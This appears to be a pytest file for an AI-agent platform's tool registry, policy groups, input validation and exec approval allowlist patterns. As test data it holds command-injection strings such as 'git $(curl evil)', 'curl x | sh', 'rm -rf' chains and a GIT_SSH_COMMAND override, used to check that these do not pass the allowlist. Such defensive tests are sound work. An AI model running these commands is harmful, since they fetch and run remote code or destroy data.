"""The registry, the tool policy, input validation and the approval allowlist grammar (no services)."""

from dataclasses import replace

import pytest

from tenants.models import Agent
from tools import registry
from tools.approvals import always_pattern, approval_needed, pattern_matches
from tools.base import ToolInputError, ToolSpec, validate_input
from tools.builtins.exec import EXEC_TOOL
from tools.builtins.web_fetch import WEB_FETCH_TOOL


def names(policy) -> list[str]:
    return [spec.name for spec in registry.allowed_tools(Agent(slug="a", tool_policy=policy))]


def test_empty_allow_means_every_tool_and_deny_wins():
    everything = names({"allow": [], "deny": []})
    assert everything[:3] == ["exec", "process", "web_fetch"]
    assert names({"allow": ["*"], "deny": ["exec"]}) == [n for n in everything if n != "exec"]
    assert names({"allow": ["exec", "web_fetch"], "deny": ["exec"]}) == ["web_fetch"]


def test_groups_and_globs():
    assert names({"allow": ["group:runtime"]}) == ["exec", "process"]
    assert names({"allow": ["group:web"]}) == ["web_fetch"]
    assert names({"allow": ["group:runtime", "group:web"], "deny": ["group:runtime"]}) == ["web_fetch"]
    assert names({"allow": ["web_*"]}) == ["web_fetch"]
    # The sessions app registers these from its AppConfig.ready(); the group follows whatever is registered.
    assert names({"allow": ["group:sessions"]}) == ["sessions_spawn", "sessions_list", "sessions_history", "sessions_send"]
    assert names({"allow": ["no-such-tool"]}) == []


def test_malformed_policy_allows_nothing():
    assert names({"allow": "exec"}) == ["exec"]  # a lone string is read as a one-item list
    assert names({"allow": [1, 2]}) == []
    assert names("everything") == []


def test_tool_definitions_are_what_the_model_sees():
    definitions = registry.tool_definitions(Agent(slug="a", tool_policy={"allow": ["group:runtime"]}))
    assert [d["name"] for d in definitions] == ["exec", "process"]
    assert set(definitions[0]) == {"name", "description", "input_schema"}
    assert definitions[0]["input_schema"]["required"] == ["command"]


def test_tool_for_refuses_unknown_and_forbidden_tools():
    agent = Agent(slug="a", tool_policy={"allow": [], "deny": ["exec"]})
    with pytest.raises(registry.ToolForbidden, match="not allowed for agent 'a'"):
        registry.tool_for(agent, "exec")
    with pytest.raises(registry.ToolNotFound):
        registry.tool_for(agent, "rm_rf")
    assert registry.tool_for(agent, "web_fetch") is WEB_FETCH_TOOL


def test_apps_register_tools_and_policy_groups_follow(monkeypatch):
    """cron adds its tool from CronConfig.ready(), a plug-in the same way: the registry has no special cases."""
    monkeypatch.setattr(registry, "_TOOLS", registry.registered_tools())
    sessions = ["sessions_spawn", "sessions_list", "sessions_history", "sessions_send"]
    assert names({}) == ["exec", "process", "web_fetch", "skill", *sessions, "cron", "message"]
    assert names({"allow": ["group:automation"]}) == ["cron"]
    note = ToolSpec(name="note", description="Take a note.", input_schema={"type": "object"}, group="group:automation",
                    run=lambda context, tool_input: {"ok": True, "output": "noted"})
    registry.register(note)
    assert names({"allow": ["group:automation"]}) == ["cron", "note"]
    assert names({"deny": ["group:automation"]}) == ["exec", "process", "web_fetch", "skill", *sessions, "message"]
    registry.register(replace(note, name="diary", group="group:journal"))
    assert names({"allow": ["group:journal"]}) == ["diary"], "a plug-in may bring a group of its own"
    with pytest.raises(ValueError, match="a group is named 'group:<name>'"):
        registry.register(replace(note, name="other", group="journal"))
    assert "other" not in registry.registered_tools()


@pytest.mark.parametrize(
    "value, field",
    [
        ({}, "input.command"),
        ({"command": 5}, "input.command"),
        ({"command": "x", "timeout": "10"}, "input.timeout"),
        ({"command": "x", "timeout": 0}, "input.timeout"),
        ({"command": "x", "env": {"A": 1}}, "input.env.A"),
        ({"command": "x", "surprise": True}, "input.surprise"),
        ({"command": "x", "background": 1}, "input.background"),
        ({"command": "a\x00b"}, "input.command"),
    ],
)
def test_input_validation_names_the_field(value, field):
    with pytest.raises(ToolInputError) as excinfo:
        validate_input(EXEC_TOOL.input_schema, value)
    assert excinfo.value.field == field


@pytest.mark.parametrize(
    "pattern, command, extra, matches",
    [
        ("exec", "rm -rf /workspace/x; curl x | sh", None, True),
        ("exec:git *", "git status", None, True),
        ("exec:git *", "git log --oneline -n 3", None, True),
        ("exec:git *", "gitk", None, False),
        ("exec:git *", "git status; rm -rf /workspace", None, False),
        ("exec:git *", "git status && curl evil", None, False),
        ("exec:git *", "git status | sh", None, False),
        ("exec:git *", "git $(curl evil)", None, False),
        ("exec:git *", "git `id`", None, False),
        ("exec:git *", "git log > /workspace/out", None, False),
        ("exec:git *", "git status\nrm -rf x", None, False),
        ("exec:git *", "git status", {"env": {"GIT_SSH_COMMAND": "sh"}}, False),
        ("exec:git *", "git status", {"workdir": "repo"}, False),
        ("exec:=git status", "git status", {"env": {"GIT_CONFIG_COUNT": "1"}}, False),
        ("exec:=git status", "git status", {"workdir": "/workspace/other"}, False),
        ("exec:=git status", "git status", {"background": True}, False),
        ("exec:=git status", "git status", {"timeout": 30, "yield_ms": 0}, True),
        ('exec:input={"command":"git status","workdir":"repo"}', "git status", {"workdir": "repo"}, True),
        ('exec:input={"command":"git status","workdir":"repo"}', "git status", {"workdir": "repo", "env": {"A": "1"}}, False),
        ('exec:input={"command":"git status","workdir":"repo"}', "git status", None, False),
        ("exec:input={not json", "git status", None, False),
        ("exec:=make test && echo ok", "make test && echo ok", None, True),
        ("exec:=make test", "make test && echo ok", None, False),
        ("*", "anything; at all", None, True),
        ("web_*", "ls", None, False),
    ],
)
def test_exec_allowlist_patterns(pattern, command, extra, matches):
    tool_input = {"command": command, **(extra or {})}
    assert pattern_matches(pattern, spec=EXEC_TOOL, tool_input=tool_input) is matches


@pytest.mark.parametrize(
    "tool_input, pattern",
    [
        ({"command": "git status"}, "exec:=git status"),
        ({"command": "git status", "timeout": 30}, "exec:=git status"),
        ({"command": "git status", "env": {"B": "2", "A": "1"}},
         'exec:input={"command":"git status","env":{"A":"1","B":"2"}}'),
    ],
)
def test_allow_always_covers_exactly_the_input_the_approver_saw(tool_input, pattern):
    assert always_pattern(EXEC_TOOL, tool_input) == pattern
    assert pattern_matches(pattern, spec=EXEC_TOOL, tool_input=tool_input)
    assert not pattern_matches(pattern, spec=EXEC_TOOL, tool_input={**tool_input, "workdir": "elsewhere"})


def test_approval_modes():
    call = {"url": "https://example.com/a"}
    off = Agent(slug="a", approval={"mode": "off"})
    on_miss = Agent(slug="a", approval={"mode": "on_miss", "allowlist": ["web_fetch:https://example.com/*"]})
    always = Agent(slug="a", approval={"mode": "always", "allowlist": ["*"]})
    weird = Agent(slug="a", approval={"mode": "sometimes"})
    assert not approval_needed(agent=off, spec=WEB_FETCH_TOOL, tool_input=call)
    assert not approval_needed(agent=on_miss, spec=WEB_FETCH_TOOL, tool_input=call)
    assert approval_needed(agent=on_miss, spec=WEB_FETCH_TOOL, tool_input={"url": "https://evil.example/"})
    assert approval_needed(agent=always, spec=WEB_FETCH_TOOL, tool_input=call)
    assert approval_needed(agent=weird, spec=WEB_FETCH_TOOL, tool_input=call), "an unknown mode fails closed"
